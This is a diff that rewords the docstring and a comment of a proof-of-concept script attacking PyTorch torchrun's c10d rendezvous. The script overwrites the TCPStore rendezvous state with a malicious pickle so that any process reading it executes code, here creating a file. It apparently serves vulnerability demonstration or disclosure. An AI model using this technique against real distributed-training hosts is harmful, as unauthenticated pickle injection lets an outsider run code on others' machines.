@@ -1,8 +1,8 @@
-"""What another account of the machine, or another machine, does to torchrun's rendezvous: ``c10d_attack.py FILE HOST:PORT …``.
+"""Attack torchrun's rendezvous as a stranger: ``c10d_attack.py FILE HOST:PORT …``.
 
-Every port is taken for a ``TCPStore``. The state of a rendezvous of torch's ``c10d`` backend lies there under
-``torch.rendezvous.<run id>``, base64 of a pickle (``c10d_rendezvous_backend.py:43``, ``dynamic_rendezvous.py:444``, torch 2.13),
-and ``list_keys`` tells the id. The pickle that replaces it writes FILE in whichever process reads it.
+Every port is tried as a ``TCPStore``. There, torch's ``c10d`` backend stores the state of a rendezvous as a base64 pickle under
+``torch.rendezvous.<run id>`` (torch 2.13, ``c10d_rendezvous_backend.py:43``, ``dynamic_rendezvous.py:444``), and ``list_keys``
+returns the key. The attack replaces the state by a pickle that creates FILE in the process that reads it.
 """
 
 import base64
@@ -39,7 +39,7 @@ def attack(target, value):
 
 def main():
     value = base64.b64encode(pickle.dumps(Payload(sys.argv[1])))
-    # All at once: what is no store does not answer, and TCPStore waits for it longer than its timeout.
+    # In parallel: ports without a store do not answer, and TCPStore waits for them longer than its timeout.
     threads = [threading.Thread(target=attack, args=(target, value), daemon=True) for target in sys.argv[2:]]
     for thread in threads:
         thread.start()
